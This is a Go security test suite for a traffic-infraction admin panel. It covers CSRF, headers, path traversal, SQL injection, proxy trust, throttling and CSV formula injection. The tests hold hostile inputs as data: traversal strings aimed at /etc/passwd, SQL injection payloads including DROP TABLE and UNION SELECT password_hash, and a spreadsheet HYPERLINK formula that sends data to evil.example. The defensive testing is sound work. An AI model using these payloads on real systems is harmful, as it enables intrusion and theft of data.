package handlers_test

import (
	"bufio"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/bcrypt"

	"transito/handlers"
	"transito/handlers/admin"
	"transito/internal/testenv"
	"transito/models"
	"transito/models/rules"
)

// secFixture is a logged-in panel with one record of each kind, so that
// every :id route has something to point at.
type secFixture struct {
	*testenv.Client
	ids map[string]string // first path segment after /admin → an id
}

func newSecFixture(t *testing.T) *secFixture {
	t.Helper()
	e := testenv.Panel(t)
	p := testenv.MustPerson(t, e.Store, "Ana Pérez", "ana@example.com")
	v := testenv.MustVehicle(t, e.Store, "AB123CD", p.ID)
	o := testenv.MustOfficer(t, e.Store, "Oficial Uno", "B1")
	inf := testenv.MustInfraction(t, e.Store, v.Plate, o.Badge, time.Now().Add(-time.Hour))
	other, err := e.Store.CreateAdmin(t.Context(), rules.AdminInput{Username: "otra", Password: testenv.Password}, testenv.Actor)
	if err != nil {
		t.Fatal(err)
	}
	e.Login()
	return &secFixture{Client: e, ids: map[string]string{
		"personas": fmt.Sprint(p.ID), "vehiculos": fmt.Sprint(v.ID), "oficiales": fmt.Sprint(o.ID),
		"infracciones": fmt.Sprint(inf), "administradores": fmt.Sprint(other.ID),
		// The role is refused before the descargo is looked up.
		"descargos": "1",
	}}
}

// concrete fills the :id parameter of a route path with a real record.
func (f *secFixture) concrete(path string) string {
	parts := strings.Split(path, "/")
	for i, p := range parts {
		if strings.HasPrefix(p, ":") && i > 0 {
			parts[i] = f.ids[parts[i-1]]
		}
	}
	return strings.Join(parts, "/")
}

func (f *secFixture) auditTotal(t *testing.T) int {
	t.Helper()
	res, err := f.Store.ListAudit(context.Background(), models.ListQuery{}, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	return res.Total
}

func isSafeMethod(m string) bool {
	return m == http.MethodGet || m == http.MethodHead || m == http.MethodOptions
}

// TestEveryStateChangingAdminRouteNeedsCSRF walks the app's route table, so
// that a route added later without the CSRF check fails here.
func TestEveryStateChangingAdminRouteNeedsCSRF(t *testing.T) {
	f := newSecFixture(t)
	checked := 0
	for _, r := range f.Server.App.GetRoutes(true) {
		if !strings.HasPrefix(r.Path, "/admin") || isSafeMethod(r.Method) {
			continue
		}
		checked++
		path := f.concrete(r.Path)
		for name, token := range map[string]string{"missing": "", "wrong": testenv.WrongToken(f.CSRF)} {
			t.Run(r.Method+" "+r.Path+" "+name, func(t *testing.T) {
				before := f.auditTotal(t)
				form := url.Values{"_csrf": {token}, "nombre": {"Cambiado"}, "email": {"cambiado@example.com"},
					"usuario": {"admin"}, "clave": {testenv.Password}, "motivo": {"CSRF"}, "placa_patente": {"ZZ999ZZ"}}
				req := httptest.NewRequest(r.Method, path, strings.NewReader(form.Encode()))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				if token != "" {
					req.Header.Set("X-CSRF-Token", token)
				}
				resp := f.Do(req)
				body, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != http.StatusForbidden {
					t.Fatalf("status %d, want 403; body %.200s", resp.StatusCode, body)
				}
				if !strings.Contains(string(body), "CSRF") {
					t.Errorf("403 page does not explain the refusal: %.300s", body)
				}
				if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
					t.Errorf("403 page without the security headers (CSP %q)", csp)
				}
				if after := f.auditTotal(t); after != before {
					t.Errorf("%d audit entries written by a refused request", after-before)
				}
			})
		}
	}
	if checked < 20 {
		t.Fatalf("only %d state-changing admin routes found: the route walk is broken", checked)
	}
	if _, doc := f.Get("/admin"); testenv.Testid(doc, "current-user").Text() != "admin" {
		t.Error("a refused logout ended the session")
	}
}

// TestSecurityHeadersOnEveryHTMLResponse walks every GET route, logged in
// and not, and the error pages.
func TestSecurityHeadersOnEveryHTMLResponse(t *testing.T) {
	f := newSecFixture(t)
	paths := []string{"/no-existe", "/admin/no-existe", "/admin/personas/999999", "/consulta?email=x", "/admin/login"}
	for _, r := range f.Server.App.GetRoutes(true) {
		if r.Method == http.MethodGet {
			paths = append(paths, f.concrete(r.Path))
		}
	}
	anon := testenv.Panel(t)
	html := 0
	for _, env := range []*testenv.Client{f.Client, anon} {
		for _, p := range paths {
			req := httptest.NewRequest(http.MethodGet, p, nil)
			req.Header.Set("Accept", "text/html")
			resp := env.Do(req)
			resp.Body.Close()
			if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
				continue
			}
			html++
			h := resp.Header
			csp := h.Get("Content-Security-Policy")
			switch {
			case csp == "" || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval"):
				t.Errorf("GET %s: CSP %q", p, csp)
			case !strings.Contains(csp, "frame-ancestors 'none'") || !strings.Contains(csp, "script-src 'self'"):
				t.Errorf("GET %s: CSP %q lacks frame-ancestors/script-src", p, csp)
			case h.Get("X-Content-Type-Options") != "nosniff":
				t.Errorf("GET %s: X-Content-Type-Options %q", p, h.Get("X-Content-Type-Options"))
			case h.Get("X-Frame-Options") != "DENY":
				t.Errorf("GET %s: X-Frame-Options %q", p, h.Get("X-Frame-Options"))
			case h.Get("Referrer-Policy") == "" || h.Get("Referrer-Policy") == "unsafe-url":
				t.Errorf("GET %s: Referrer-Policy %q", p, h.Get("Referrer-Policy"))
			}
		}
	}
	if html < 30 {
		t.Fatalf("only %d HTML responses checked", html)
	}
}

// TestStaticFilesCannotEscapeTheirRoot sends traversal attempts on the
// request line exactly as written (over a socket: a client library would
// clean them) and checks none reaches a file outside the embedded assets.
func TestStaticFilesCannotEscapeTheirRoot(t *testing.T) {
	e := testenv.Panel(t)
	addr := e.Listen()
	raw := func(path string) (int, string) {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", path)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return 0, err.Error()
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	if status, body := raw("/static/css/app.css"); status != 200 || !strings.Contains(body, "{") {
		t.Fatalf("/static/css/app.css: %d", status)
	}
	for _, p := range []string{
		"/static/../go.mod", "/static/..%2fgo.mod", "/static/%2e%2e/go.mod", "/static/%2e%2e%2fgo.mod",
		"/static/css/../../go.mod", "/static/..%5cgo.mod", "/static/%252e%252e/go.mod", "/static/....//go.mod",
		"/static/..;/go.mod", "/static/css/%2e%2e/%2e%2e/handlers/app.go", "/static//etc/passwd", "/static/%00../go.mod",
		"/static/..%c0%afgo.mod", "/static/css/..%2f..%2f..%2fetc/passwd",
	} {
		status, body := raw(p)
		if status >= 500 || strings.Contains(body, "module transito") || strings.Contains(body, "package handlers") || strings.Contains(body, "root:") {
			t.Errorf("GET %s: %d %.100q", p, status, body)
		}
	}
}

// TestSQLInjectionInSearchBoxesAndFilters sends injection strings through
// every search box and filter: each is a literal that matches nothing.
func TestSQLInjectionInSearchBoxesAndFilters(t *testing.T) {
	f := newSecFixture(t)
	payloads := []string{
		`' OR '1'='1`, `%' OR 1=1 --`, `"; DROP TABLE persons; --`, `') UNION SELECT password_hash FROM admins --`,
		`%`, `_`, `\`, `1; DELETE FROM infractions`, "q\x00w\xff", `' || (SELECT 1) || '`,
	}
	lists := map[string][]string{
		"/admin/personas":        {"q"},
		"/admin/vehiculos":       {"q", "marca", "color", "titular", "persona"},
		"/admin/oficiales":       {"q", "estado"},
		"/admin/infracciones":    {"q", "desde", "hasta", "oficial", "patente", "estado", "persona", "vehiculo"},
		"/admin/administradores": {"q"},
		"/admin/auditoria":       {"q", "entidad", "accion", "actor", "desde", "hasta"},
		"/admin/personas/buscar": {"persona_q"},
	}
	for path, params := range lists {
		for _, param := range params {
			for _, p := range payloads {
				resp, doc := f.Get(path + "?" + url.Values{param: {p}}.Encode())
				if resp.StatusCode >= 500 {
					t.Fatalf("%s?%s=%q: %d", path, param, p, resp.StatusCode)
				}
				if path == "/admin/personas/buscar" {
					if n := testenv.Testid(doc, "person-option").Length(); n != 0 {
						t.Errorf("%s?%s=%q: %d persons match a literal that is in no name", path, param, p, n)
					}
					continue
				}
				if param == "q" || param == "patente" || param == "titular" || param == "marca" || param == "color" {
					if n := testenv.Testid(doc, "row").Length(); n != 0 {
						t.Errorf("%s?%s=%q: %d rows match a literal that is in no record", path, param, p, n)
					}
				}
			}
		}
	}
	for _, p := range payloads {
		for _, path := range []string{"/generar_informe?email=", "/consulta?email=", "/admin/personas/" + f.ids["personas"] + "?persona_q="} {
			resp, _ := f.Get(path + url.QueryEscape(p))
			if resp.StatusCode >= 500 || resp.StatusCode == 200 && strings.HasPrefix(path, "/generar_informe") {
				t.Errorf("%s%q: %d", path, p, resp.StatusCode)
			}
		}
	}
	for _, check := range []struct {
		path string
		rows int
	}{{"/admin/personas", 1}, {"/admin/vehiculos", 1}, {"/admin/infracciones", 1}, {"/admin/oficiales", 1}} {
		if _, doc := f.Get(check.path); testenv.Testid(doc, "row").Length() != check.rows {
			t.Errorf("%s: %d rows after the injections, want %d", check.path, testenv.Testid(doc, "row").Length(), check.rows)
		}
	}
}

func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
	e := testenv.Panel(t)
	for _, tc := range []struct {
		name    string
		proxies []string
		secure  bool
	}{
		{"peer not in the trusted list", []string{"10.1.2.3"}, false},
		{"peer in a trusted range", []string{"0.0.0.0/8"}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := e.Serve(handlers.Config{TrustedProxies: tc.proxies})
			req := httptest.NewRequest(http.MethodGet, "/admin/login", nil)
			req.Header.Set("X-Forwarded-Proto", "https")
			resp, err := srv.App.Test(req)
			if err != nil {
				t.Fatal(err)
			}
			for _, c := range resp.Cookies() {
				if c.Name == admin.SessionCookie && c.Secure != tc.secure {
					t.Errorf("Secure = %v, want %v", c.Secure, tc.secure)
				}
			}
		})
	}
}

func TestPasswordsHashedWithBcryptCost12(t *testing.T) {
	e := testenv.Panel(t)
	a, err := e.Store.AdminByID(t.Context(), e.Admin.ID)
	if err != nil {
		t.Fatal(err)
	}
	cost, err := bcrypt.Cost([]byte(a.PasswordHash))
	if err != nil || cost < 12 {
		t.Fatalf("bcrypt cost %d (%v), want ≥ 12", cost, err)
	}
	if strings.Contains(a.PasswordHash, testenv.Password) {
		t.Fatal("password stored in clear")
	}
}

// TestLoginThrottleSharedByTheSpellings checks neither the trailing-slash
// or upper-case spelling of the login form nor a forged X-Forwarded-For
// from an untrusted peer resets the failure count.
func TestLoginThrottleSharedByTheSpellings(t *testing.T) {
	e := testenv.Panel(t)
	e.LoginPage()
	for i := range 5 {
		path := "/admin/login"
		if i%2 == 1 {
			path += "/"
		}
		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", "198.51.100."+fmt.Sprint(int64(i)))
		testenv.WantStatus(t, resp, http.StatusUnauthorized)
	}
	for _, path := range []string{"/admin/login/", "/admin/login", "/ADMIN/login"} {
		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {testenv.Password}})
		if resp.StatusCode == http.StatusSeeOther {
			t.Fatalf("POST %s logged in after 5 failures", path)
		}
	}
}

// TestLookupRateLimitHoldsAcrossSpellings spends one per-client budget
// through every spelling of the citizen look-up (page and API, trailing
// slash, /api/v1, upper case), and with a forged X-Forwarded-For from an
// untrusted peer: none of them buys a fresh budget.
func TestLookupRateLimitHoldsAcrossSpellings(t *testing.T) {
	spellings := []string{"/generar_informe", "/generar_informe/", "/api/v1/informes", "/api/v1/informes/", "/consulta", "/consulta/", "/GENERAR_INFORME"}
	env := testenv.API(t, handlers.Config{RateLimit: len(spellings)})
	for i, p := range spellings {
		resp, _ := env.Send(t, "GET", p+"?email=ana@example.com", "", "", "X-Forwarded-For", "10.0.0."+fmt.Sprint(int64(i)))
		if resp.StatusCode != 200 {
			t.Fatalf("%s: %d, want 200 within the budget", p, resp.StatusCode)
		}
	}
	for i, p := range spellings {
		resp, _ := env.Send(t, "GET", p+"?email=nadie"+fmt.Sprint(int64(i))+"@example.com", "", "", "X-Forwarded-For", "192.0.2."+fmt.Sprint(int64(i)))
		if resp.StatusCode != 429 || resp.Header.Get("Retry-After") == "" {
			t.Errorf("%s past the budget: %d, want 429 with Retry-After", p, resp.StatusCode)
		}
	}
}

// TestForgedForwardedForBehindATrustedProxy: a proxy appends the address
// that connected to it to whatever X-Forwarded-For the client sent. Only
// that right-most entry (skipping further trusted proxies) identifies the
// client; the entries a client makes up must not buy a fresh rate-limit
// budget or login-throttle count.
func TestForgedForwardedForBehindATrustedProxy(t *testing.T) {
	proxies := []string{"0.0.0.0", "10.0.0.0/8"} // the in-process peer, an inner proxy tier
	t.Run("look-up rate limit", func(t *testing.T) {
		env := testenv.API(t, handlers.Config{RateLimit: 2, TrustedProxies: proxies})
		for i, want := range []int{200, 200, 429, 429} {
			xff := fmt.Sprintf("198.51.100.%d, 203.0.113.7, 10.1.1.1", i)
			if resp, _ := env.Send(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", xff); resp.StatusCode != want {
				t.Errorf("request %d (X-Forwarded-For %s): %d, want %d", i, xff, resp.StatusCode, want)
			}
		}
		if resp, _ := env.Send(t, "GET", "/generar_informe?email=ana@example.com", "", "", "X-Forwarded-For", "203.0.113.8"); resp.StatusCode != 200 {
			t.Errorf("another client behind the proxy: %d, want 200 (its own budget)", resp.StatusCode)
		}
	})
	t.Run("login throttle", func(t *testing.T) {
		e := testenv.Panel(t)
		e.Server = e.Serve(handlers.Config{TrustedProxies: proxies, ImportDir: t.TempDir()})
		e.LoginPage()
		for i := range 5 {
			resp, _ := e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", fmt.Sprintf("198.51.100.%d, 203.0.113.7", i))
			testenv.WantStatus(t, resp, http.StatusUnauthorized)
		}
		resp, _ := e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testenv.Password}}, "X-Forwarded-For", "192.0.2.1, 203.0.113.7")
		testenv.WantStatus(t, resp, http.StatusTooManyRequests)
		resp, _ = e.Post("/admin/login", url.Values{"usuario": {"admin"}, "clave": {testenv.Password}}, "X-Forwarded-For", "203.0.113.8")
		testenv.WantStatus(t, resp, http.StatusSeeOther)
	})
}

// TestCSVExportsDefuseFormulas stores spreadsheet formulas in every free-text
// field and checks no cell of any list's CSV export starts with a character
// a spreadsheet would evaluate.
func TestCSVExportsDefuseFormulas(t *testing.T) {
	e := testenv.Panel(t)
	ctx := context.Background()
	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+1+1", "-2+3", "@SUM(1,2)"}
	for i, f := range formulas {
		p, err := e.Store.CreatePerson(ctx, rules.PersonInput{Name: f, Email: "f" + fmt.Sprint(int64(i)) + "@example.com"}, testenv.Actor)
		if err != nil {
			t.Fatal(err)
		}
		plate := "CSV" + fmt.Sprint(int64(i))
		if _, err := e.Store.CreateVehicle(ctx, rules.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testenv.Actor); err != nil {
			t.Fatal(err)
		}
		badge := "F" + fmt.Sprint(int64(i))
		if _, err := e.Store.CreateOfficer(ctx, rules.OfficerInput{Name: f, Badge: badge, Active: true}, testenv.Actor); err != nil {
			t.Fatal(err)
		}
		if _, err := e.Store.CreateInfraction(ctx, rules.InfractionInput{Plate: plate, Badge: badge, OccurredAt: time.Now().Add(-time.Hour), Comments: f}, testenv.Actor); err != nil {
			t.Fatal(err)
		}
	}
	e.Login()
	for _, list := range []string{"/admin/personas", "/admin/vehiculos", "/admin/oficiales", "/admin/infracciones", "/admin/auditoria", "/admin/administradores"} {
		resp := e.Do(httptest.NewRequest(http.MethodGet, list+"?formato=csv", nil))
		testenv.WantStatus(t, resp, http.StatusOK)
		recs, err := csv.NewReader(resp.Body).ReadAll()
		resp.Body.Close()
		if err != nil || len(recs) < 2 {
			t.Fatalf("%s: %d records, %v", list, len(recs), err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", list, cell)
				}
			}
		}
	}
}
